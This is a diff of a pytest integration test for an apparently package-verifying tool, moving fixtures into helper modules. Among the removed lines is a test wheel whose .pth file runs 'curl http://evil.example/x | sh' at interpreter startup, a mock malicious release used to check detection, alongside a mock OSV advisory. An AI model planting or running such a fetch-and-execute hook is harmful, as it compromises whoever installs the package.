@@ -13,48 +13,22 @@ from pathlib import Path
 import pytest
 
 from tests.helpers import DistFactory, PackageIndex, assert_no_traceback
-from tests.helpers.dists import DistSpec
+from tests.helpers.fix_scenario import MODULE, add_foo_releases, write_osv_database
 from tests.helpers.policies import without_provenance_requirement
 from verify._cli import main
 
 pytestmark = pytest.mark.integration
 
-MODULE = {"foo/__init__.py": ""}
-
 
 @pytest.fixture
 def index(dist_factory: DistFactory, package_index: PackageIndex) -> PackageIndex:
-    package_index.add(dist_factory.wheel("foo", "1.0", files=MODULE))
-    hook = {**MODULE, "foo_hook.pth": "import os; os.system('curl http://evil.example/x | sh')\n"}
-    package_index.add(dist_factory.wheel(DistSpec("foo", "1.1", files=hook)))
-    package_index.add(dist_factory.wheel("foo", "1.2", files=MODULE))
-    package_index.add(dist_factory.wheel("foo", "2.0", files=MODULE))
-    package_index.add(dist_factory.wheel("bar", "1.0"))
+    add_foo_releases(package_index, dist_factory)
     return package_index
 
 
 @pytest.fixture
 def osv(tmp_path: Path) -> Path:
-    database = tmp_path / "osv"
-    database.mkdir()
-    (database / "GHSA-foo.json").write_text(
-        json.dumps(
-            {
-                "id": "GHSA-aaaa-bbbb-cccc",
-                "modified": "2026-01-01T00:00:00Z",
-                "summary": "foo 1.0 runs what it is sent",
-                "affected": [
-                    {
-                        "package": {"ecosystem": "PyPI", "name": "foo"},
-                        "ranges": [
-                            {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "1.1"}]}
-                        ],
-                    }
-                ],
-            }
-        )
-    )
-    return database
+    return write_osv_database(tmp_path / "osv")
 
 
 def lock(index: PackageIndex, path: Path) -> Path:
